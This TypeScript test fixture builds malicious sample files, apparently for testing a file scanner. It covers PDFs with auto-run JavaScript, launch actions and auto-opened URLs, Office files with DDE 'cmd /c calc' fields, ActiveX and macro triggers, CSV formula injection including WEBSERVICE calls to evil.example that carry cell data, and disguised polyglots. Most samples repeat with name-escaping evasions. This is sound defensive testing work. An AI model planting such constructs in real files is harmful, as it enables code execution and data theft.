// More files that carry programs: updates behind the end of a PDF, actions that a viewer does by itself, and
// what office files bring besides macros. First as it stands, then behind an evasion.
import { aBook, aCompound, aFib, anOle } from '#tests/provider/files-made.ts'
import {
  aDocx, anXlsx, cells, char, field, instruction, override, paragraph, relationship, relationships, run,
} from './office.ts'
import { aPaper, aStream, packedObjects } from './pdfs.ts'

type Bad = [name: string, bytes: Buffer]

/** A later state of the same paper, as programs write it behind the end of the one before. */
function updated(object: string): Buffer {
  const paper = aPaper()
  const at = paper.length
  return Buffer.concat([paper, Buffer.from(`1 0 obj\n${object}\nendobj\nxref\n1 1\n`
    + `${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev 9 >>\n`
    + `startxref\n${at + object.length + 16}\n%%EOF\n`, 'latin1')])
}

const paper = (made: Parameters<typeof aPaper>[0]): Bad => ['a.pdf', aPaper(made)]
const letter = (...given: Parameters<typeof aDocx>): Bad => ['a.docx', aDocx(...given)]
const sheet = (...given: Parameters<typeof anXlsx>): Bad => ['a.xlsx', anXlsx(...given)]
const cell = (formula: string): Bad => sheet({ 'xl/worksheets/sheet1.xml': cells(`<f>${formula}</f>`) })
const table = (text: string): Bad => ['a.csv', Buffer.from(text)]
const leading = (part: string, kind: string, target: string, mode = '') =>
  ({ [part]: relationships(relationship('r9', kind, target, mode)) })
const ofWord = 'word/_rels/document.xml.rels'
const ofExcel = 'xl/_rels/workbook.xml.rels'
const wide = (text: string) => Buffer.from(text, 'utf16le').toString('latin1')

export const moreBadFiles: Record<string, Bad[]> = {
  'an update of a PDF with a program': [
    ['a.pdf', updated('<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>')],
    ['a.pdf', updated('<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /JS (1) >> >>')],
  ],
  'a model in a PDF with a program': [
    paper({ page: '/Annots [<< /Subtype /3D /3DD 4 0 R /Rect [0 0 1 1] >>]', objects: [
      aStream('/Type /3D /Subtype /U3D /OnInstantiate 5 0 R', 'U3D'), aStream('', 'host.url=1')] }),
    paper({ page: '/Annots [<< /Subtype /#33D /3DD 4 0 R /Rect [0 0 1 1] >>]', objects: [
      aStream('/Type /3D /Subtype /U3D /On#49nstantiate 5 0 R', 'U3D'), aStream('', 'host.url=1')] }),
  ],
  'an address that a PDF opens by itself': [
    paper({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
    paper({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /#55RI /URI (https://evil.example) >>'] }),
    paper({ page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
    paper({ page: '/A#41 << /O 4 0 R >>', objects: ['<< /S /URI /URI (https://evil.example) >>'] }),
  ],
  'a film or a sound in a PDF': [
    paper({ page: '/Annots [<< /Subtype /Movie /Movie << /F (a.avi) >> /Rect [0 0 1 1] >>]' }),
    paper({ page: '/Annots [<< /Subtype /M#6fvie /Movie << /F (a.avi) >> /Rect [0 0 1 1] >>]' }),
    paper({ page: '/Annots [<< /Subtype /Screen /A << /S /Rendit#69on /JS (1) >> /Rect [0 0 1 1] >>]' }),
  ],
  'a PDF that takes its parts from elsewhere': [
    paper({ page: '/Contents 4 0 R', objects: [aStream('/F << /FS /URL /F (https://evil.example/a) >>', '')] }),
    paper({ page: '/Contents 4 0 R', objects: [aStream('/F << /F#53 /UR#4c /F (https://evil.example) >>', '')] }),
    paper({ objects: ['<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'] }),
    paper({ objects: ['<< /S /GoTo#45 /T << /R /C /N (a.pdf) >> >>'] }),
  ],
  'a portfolio': [
    paper({ catalog: '/Collection << /View /H >> /Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) >>'] }),
    paper({ catalog: '/Collection << /View /H >> /Names << /Embedded#46iles << /Names [(a) 4 0 R] >> >>',
      objects: ['<< /Type /F#69lespec /F (a.exe) >>'] }),
  ],
  'packed objects with names in figures': [
    paper({ objects: [packedObjects('<< /S /L#61unch /F (calc.exe) >>')] }),
    paper({ objects: [packedObjects('<< /Type /#46ilespec /EF << >> >>', '/Type /#4fbjStm /N 1 /First 5 /Filter /FlateDecode')] }),
  ],
  'a letter that sends for its data': [
    letter(leading('word/_rels/settings.xml.rels', 'mailMergeSource', 'https://evil.example/a.csv', 'External')),
    letter(leading('word/_rels/settings.xml.rels', 'mailMergeSource', 'media/image1.png')),
  ],
  'a letter in frames, or in parts': [
    letter(leading('word/_rels/webSettings.xml.rels', 'frame', 'https://evil.example/', 'External')),
    letter(leading(ofWord, 'subDocument', 'file://evil/a.docx', 'External')),
    letter(leading(ofWord, 'subDocument', 'sub.docx')),
  ],
  'a button of its own': [
    letter({ ...leading('_rels/.rels', 'officeDocument', 'word/document.xml'),
      'word/activeX/activeX1.xml': '<a/>' },
    [override('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml')]),
    letter({ 'word/activeX/activeX1.bin': 'x' }),
    letter({ 'word/document.xml': paragraph(run('<w:control/>')) }),
    sheet({ 'xl/worksheets/sheet1.xml': cells('<v>1</v>').replace('</sheetData>', '</sheetData><controls><control shapeId="1"/></controls>') }),
  ],
  'a ribbon that calls something': [
    letter({ '_rels/.rels': relationships(relationship('r1', 'officeDocument', 'word/document.xml'),
      '<Relationship Id="r2" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" Target="customUI/customUI.xml"/>'),
    'customUI/customUI.xml': '<customUI onLoad="a"/>' }),
    sheet({ '_rels/.rels': relationships(relationship('r1', 'officeDocument', 'xl/workbook.xml'),
      '<Relationship Id="r2" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" Target="customUI/customUI14.xml"/>'),
    'customUI/customUI14.xml': '<customUI onLoad="a"/>' }),
  ],
  'a field in pieces': [
    letter({ 'word/document.xml': paragraph(char('begin') + instruction(' D') + instruction('D') + instruction('E')
      + instruction(' cmd "/c calc" ') + char('separate') + char('end')) }),
    letter({ 'word/document.xml': paragraph(char('begin') + instruction(' ') + char('begin') + instruction(' QUOTE 68 68 69 ')
      + char('separate') + char('end') + instruction(' cmd ') + char('end')) }),
    letter({ 'word/header1.xml': field(' includepicture "https://evil.example/a.png" \\d ') }),
    letter({ 'word/footnotes.xml': field(' IMPORT "https://evil.example/a" ') }),
  ],
  'a drawing that starts a macro': [
    sheet({ 'xl/drawings/drawing1.xml': '<xdr:wsDr xmlns:xdr="x"><xdr:sp macro="\'\\\\evil\\a.xlsm\'!go"/></xdr:wsDr>' }),
    sheet({ 'xl/drawings/vmlDrawing1.vml': '<xml xmlns:x="x"><x:ClientData><x:FmlaMacro>[0]!go</x:FmlaMacro></x:ClientData></xml>' }),
  ],
  'a formula that asks the web': [
    cell('_xlfn.IMAGE("https://evil.example/a.png")'), cell('_xlfn.image ("https://evil.example/"&amp;A1)'),
    cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), cell('RTD("a.server",,"x")'),
  ],
  'a name that starts something': [
    sheet({ 'xl/workbook.xml': '<workbook xmlns="x"><definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames></workbook>' }),
    sheet({ 'xl/workbook.xml': '<workbook xmlns="x"><definedNames><definedName name="a" function="1" vbProcedure="1">A1</definedName></definedNames></workbook>' }),
    sheet({ ...leading(ofExcel, 'xlMacrosheet', 'macrosheets/sheet1.xml') }),
  ],
  'a table that starts a program': [
    table("name,amount\n=cmd|' /C calc'!A0,5\n"), table('name,amount\n"  =cmd|\' /C calc\'!A0",5\n'),
    table('name\n+WEBSERVICE("https://evil.example/"&A1)\n'), table('name;amount\n1;"@IMAGE(""https://evil.example/"")"\n'),
    table('a,b\n1,""=cmd|\' /C calc\'!A0\n'), table('a,b\n5" pipe,=cmd|\' /C calc\'!A0\n'),
    table("name\tamount\n1\t-2+3+cmd|' /C calc'!A0\n"),
  ],
  'an older file with a field in it': [
    ['a.doc', aCompound(['WordDocument', aFib('\x13 DDE cmd "/c calc"')])],
    ['a.doc', aCompound(['WordDocument', aFib(wide('\x13\tincludetext "https://evil.example/a"'))])],
    ['a.xls', aCompound(['Workbook', aBook()], ['_VBA_PROJECT_CUR/VBA/dir', Buffer.from('x')])],
    ['a.xls', aCompound(['Workbook', aBook()], ['\u0001Ole10Native', Buffer.from('x')])],
  ],
  'an older file that is linked to another one': [
    ['a.doc', aCompound('WordDocument', ['\u0001Ole', anOle({ flags: 1 })])],
    ['a.doc', aCompound('WordDocument', ['\u0001Ole', anOle({ moniker: 12, more: 12 })])],
    ['a.xls', aCompound('Workbook', ['\u0001Ole', anOle({ flags: 0x1001 })])],
    ['a.xls', aCompound('Workbook', ['\u0001Ole', anOle({ more: 8 })])],
  ],
  'macros by the ending of a printer': [
    sheet({ 'xl/printerSettings/printerSettings1.bin': 'x' },
      ['<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>']),
    sheet({ 'xl/printerSettings/printerSettings1.BIN': 'x' },
      ['<Default Extension="Bin" ContentType="application/vnd.ms-office.vbaProject"/>']),
  ],
  'a page that is called a picture': [
    ['a.jpg', Buffer.from('<html><script>alert(1)</script></html>')], ['a.png', Buffer.from('<svg onload="alert(1)"/>')],
    ['a.jpg', Buffer.from('GIF89a/*<script>alert(1)</script>*/=1')], ['a.pdf', Buffer.from('<html>%PDF-1.7</html>')],
    ['a.doc', Buffer.from('{\\rtf1{\\object\\objupdate}}')], ['a.docx', Buffer.from('{\\rtf1 a}')],
    ['a.html', Buffer.from('<p>a</p>')], ['a.svg', Buffer.from('<svg/>')],
  ],
}
